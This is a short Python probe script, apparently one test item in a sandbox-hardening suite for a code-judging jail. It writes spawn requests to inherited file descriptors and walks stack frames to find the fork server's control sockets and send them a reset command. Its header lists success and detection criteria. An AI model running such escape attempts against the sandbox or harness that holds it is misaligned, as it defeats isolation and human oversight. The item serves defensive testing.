# DESC: uses what the fork server left in memory: its control socket object, its requests, its functions
# SUCCESS: a second student process, a reply from the judge's side, or a process that dies
# DETECT: word, neighbours
# KIND: cell
# WALLS: process namespaces
import gc, json, os, socket, sys

for fd in range(5, 64):
    try:
        os.fstat(fd)
        os.write(fd, b'{"op": "spawn", "plan": {}}')
        if "arena" not in os.readlink(f"/proc/self/fd/{fd}"):
            won(f"fd {fd}: {os.readlink(f'/proc/self/fd/{fd}')}")
    except OSError:
        pass
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, socket.socket) and frame.f_code.co_name in ("_serve", "main", "_spawn", "_enter_jail"):
            try:
                value.setblocking(False)
                value.send(json.dumps({"op": "reset"}).encode())
            except OSError as error:
                print(name, error)
    frame = frame.f_back
